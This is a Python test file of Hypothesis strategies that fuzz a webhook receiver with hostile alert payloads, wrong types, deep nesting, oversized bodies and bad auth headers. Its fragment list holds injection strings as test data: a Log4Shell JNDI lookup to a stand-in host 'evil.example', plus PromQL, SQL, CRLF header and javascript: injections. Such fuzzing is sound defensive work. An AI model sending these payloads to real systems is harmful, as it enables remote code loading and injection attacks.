"""Hypothesis strategies for hostile webhook requests (PRODUCT.md §5: hostile input is expected).

`hostile_requests(token, max_body)` draws a path, headers and a body. Bodies are webhook
payloads full of strings built to break PromQL (`"}`), Slack mrkdwn (`<!channel>`), URLs
and encodings (lone surrogates, escaped in JSON or raw), then optionally mutated: a field
given the wrong type, nesting far past any parser's comfort, bodies sized around the
size limit, label sets of thousands of labels, random bytes.
"""

from __future__ import annotations

import json
import string
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any
from urllib.parse import quote

from hypothesis import strategies as st

__all__ = ["HostileRequest", "hostile_requests"]

FRAGMENTS = (
    '"}',
    '"} or vector(1) #',
    '\\"}[5m]',
    "\\",
    ".*",
    "(?i)",
    "<!channel>",
    "<!here|here>",
    "<@U0123ABC>",
    "<https://evil.example|click me>",
    "&amp;&lt;",
    "*bold* _it_ ~s~ `code` >quote",
    "javascript:alert(1)",
    'http://evil.example/?a=<b>&c="d"',
    "%0d%0aSet-Cookie: x=1",
    "${jndi:ldap://evil.example/a}",
    "{{ .CommonLabels }}",
    "' OR 1=1 --",
    "\u202e\u2066",
    "\u2028\u2029",
    "\x00\x07\x1b[31m",
    "\ud800",
    "\udfff",
    "\ufffd\ufeff",
    "\N{FIRE}\N{PILE OF POO}",
    "payment-service:9404",
)
LABEL_NAMES = (
    "alertname",
    "instance",
    "service",
    "service_name",
    "app",
    "namespace",
    "job",
    "severity",
    "runbook_url",
    "runbook",
)
WRONG_TYPES: st.SearchStrategy[Any] = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False),
    st.lists(st.integers(), max_size=3),
    st.dictionaries(st.text(max_size=3), st.integers(), max_size=2),
    st.just({"$gt": ""}),
)


@dataclass(frozen=True)
class HostileRequest:
    path: str
    headers: dict[str, str]
    body: bytes

    def __repr__(self) -> str:
        shown = self.body if len(self.body) <= 300 else self.body[:300] + b"..."
        return f"HostileRequest({self.path!r}, {self.headers!r}, {len(self.body)} bytes: {shown!r})"

    def _repr_pretty_(self, printer: Any, cycle: bool) -> None:
        """What Hypothesis prints for a failing example: short, even for a 1 MiB body."""
        printer.text(repr(self))


def _weighted(*choices: tuple[int, st.SearchStrategy[Any]]) -> st.SearchStrategy[Any]:
    """Each strategy drawn in proportion to its weight (`one_of` spreads its branches unevenly)."""
    table = [strategy for weight, strategy in choices for _ in range(weight)]
    return st.integers(min_value=0, max_value=len(table) - 1).flatmap(lambda n: table[n])


def _text(valid: bool = False) -> st.SearchStrategy[str]:
    """Hostile strings; `valid` leaves out lone surrogates (which no schema accepts)."""
    fragment = st.sampled_from([f for f in FRAGMENTS if not (valid and "\ud800" <= f <= "\udfff")])
    return st.one_of(
        st.text(max_size=30),
        fragment,
        st.lists(st.one_of(fragment, st.text(max_size=8)), min_size=1, max_size=5).map("".join),
    )


def _time(valid: bool = False) -> st.SearchStrategy[str]:
    moments = st.datetimes(
        min_value=datetime(1970, 1, 1), max_value=datetime(2200, 1, 1), timezones=st.just(UTC)
    )
    rfc3339 = moments.map(lambda m: m.isoformat().replace("+00:00", "Z"))
    if valid:
        return st.one_of(rfc3339, st.just("0001-01-01T00:00:00Z"))
    return st.one_of(
        rfc3339,
        st.sampled_from(
            ["0001-01-01T00:00:00Z", "2026-11-25T17:25:32.980998649Z", "2026-13-45T99:99:99Z"]
        ),
        st.sampled_from(["", "now", "2026-11-25T17:25:32", "9999-12-31T23:59:59+14:00"]),
    )


def _labels(valid: bool, max_size: int = 8) -> st.SearchStrategy[dict[str, str]]:
    names = st.one_of(st.sampled_from(LABEL_NAMES), _text(valid))
    return st.dictionaries(names, _text(valid), max_size=max_size)


def _alert(valid: bool) -> st.SearchStrategy[dict[str, Any]]:
    return st.fixed_dictionaries(
        {
            "status": st.sampled_from(["firing", "resolved"]),
            "labels": _labels(valid),
            "annotations": _labels(valid, 4),
            "startsAt": _time(valid),
            "endsAt": _time(valid),
            "generatorURL": st.one_of(_text(valid), st.sampled_from(FRAGMENTS[11:14])),
            "fingerprint": st.one_of(st.just(""), _text(valid)),
        }
    )


def _group(valid: bool = True) -> st.SearchStrategy[dict[str, Any]]:
    """A webhook whose strings are hostile; `valid` keeps every type and time right."""
    return st.fixed_dictionaries(
        {
            "receiver": _text(valid),
            "status": st.sampled_from(["firing", "resolved"]),
            "alerts": st.lists(_alert(valid), min_size=1, max_size=4),
            "groupLabels": _labels(valid, 3),
            "commonLabels": _labels(valid, 4),
            "commonAnnotations": _labels(valid, 3),
            "externalURL": st.one_of(_text(valid), st.just("http://alertmanager.example:9093")),
            "version": st.just("4"),
            "groupKey": _text(valid).filter(bool) if valid else _text(),
            "truncatedAlerts": st.integers(min_value=0, max_value=3),
        }
    )


def _paths(document: Any) -> list[list[Any]]:
    """Every path (keys and indexes) into a JSON document."""
    found: list[list[Any]] = []

    def walk(node: Any, path: list[Any]) -> None:
        found.append(path)
        if isinstance(node, dict):
            children: list[tuple[Any, Any]] = list(node.items())
        elif isinstance(node, list):
            children = list(enumerate(node))
        else:
            return
        for key, child in children:
            walk(child, [*path, key])

    walk(document, [])
    return found


@st.composite
def _mutated(draw: st.DrawFn) -> Any:
    """A webhook with one value (anywhere, the whole document included) of the wrong type."""
    document = draw(_group())
    path = draw(st.sampled_from(_paths(document)))
    value = draw(WRONG_TYPES)
    if not path:
        return value
    node = document
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value
    return document


def _encode(document: Any, ascii_only: bool) -> bytes:
    # ensure_ascii escapes a lone surrogate as \udNNN; raw, it becomes invalid UTF-8.
    return json.dumps(document, ensure_ascii=ascii_only).encode("utf-8", "surrogatepass")


@st.composite
def _json_body(draw: st.DrawFn) -> bytes:
    document = draw(_weighted((2, _group()), (1, _group(valid=False)), (1, _mutated())))
    return _encode(document, draw(st.booleans()))


@st.composite
def _nested(draw: st.DrawFn) -> bytes:
    """A label value nested `depth` lists deep (a JSON bomb of brackets)."""
    depth = draw(st.sampled_from([50, 900, 1100, 5000, 100_000]))
    document = draw(_group())
    value = b"[" * depth + b"]" * depth
    return _encode(document, True).replace(
        b'"alerts": [{', b'"alerts": [{"deep": ' + value + b", ", 1
    )


@st.composite
def _sized(draw: st.DrawFn, max_body: int) -> bytes:
    """A valid webhook padded to exactly a size around `max_body` bytes."""
    document = draw(_group())
    document["commonAnnotations"]["padding"] = ""
    empty = len(_encode(document, True))
    size = draw(st.sampled_from([max_body - 1, max_body, max_body + 1, max_body * 4]))
    document["commonAnnotations"]["padding"] = "p" * max(0, size - empty)
    return _encode(document, True)


@st.composite
def _many_labels(draw: st.DrawFn) -> bytes:
    document = draw(_group())
    count = draw(st.sampled_from([1_000, 5_000]))
    prefix = draw(st.sampled_from(FRAGMENTS))
    document["alerts"][0]["labels"] = {f"{prefix}{i}": f'{prefix}"}}{i}' for i in range(count)}
    return _encode(document, True)


def _bodies(max_body: int) -> st.SearchStrategy[bytes]:
    return _weighted(
        (6, _json_body()),
        (1, _nested()),
        (1, _sized(max_body)),
        (1, _many_labels()),
        (1, st.binary(max_size=200)),
        (
            1,
            st.sampled_from(
                [b"", b"null", b"[]", b"{}", b'"x"', b"{", b"\xff\xfe{}", b'{"a":NaN}']
            ),
        ),
    )


# Most requests pass auth, route and content type so that their bodies are what is tested.
GOOD_ENVELOPES = 10


def _envelope(token: str) -> st.SearchStrategy[tuple[str, dict[str, str]]]:
    """A path and headers: mostly right, else one thing wrong (auth, route, content type)."""
    auth = {"Authorization": f"Bearer {token}"}
    good = [
        ("/webhook/payments", {**auth, "Content-Type": "application/json; charset=utf-8"}),
        ("/webhook", {**auth, "Content-Type": "application/json"}),
        ("/webhook", auth),  # no Content-Type at all is accepted
        ("/webhook/default", {**auth, "Content-Type": "Application/JSON ; x=y"}),
    ]
    wrong_type = st.sampled_from(["text/plain", "application/x-www-form-urlencoded", ""])
    wrong_auth = st.one_of(
        st.sampled_from(["", "Bearer", "Bearer wrong", "Basic !!!", "Basic YW06eA==", "bearer"]),
        st.text(alphabet=string.printable.strip(), max_size=30),
    )
    route = st.text(max_size=12).map(lambda t: "/webhook/" + quote(t, safe=""))
    return _weighted(
        (GOOD_ENVELOPES, st.sampled_from(good)),
        (1, wrong_type.map(lambda kind: ("/webhook", {**auth, "Content-Type": kind}))),
        (1, wrong_auth.map(lambda value: ("/webhook", {"Authorization": value}))),
        (1, route.map(lambda path: (path, auth))),
    )


@st.composite
def hostile_requests(draw: st.DrawFn, token: str, max_body: int) -> HostileRequest:
    """Requests to the webhook, mostly authenticated, with hostile or broken bodies."""
    path, headers = draw(_envelope(token))
    return HostileRequest(path, headers, draw(_bodies(max_body)))
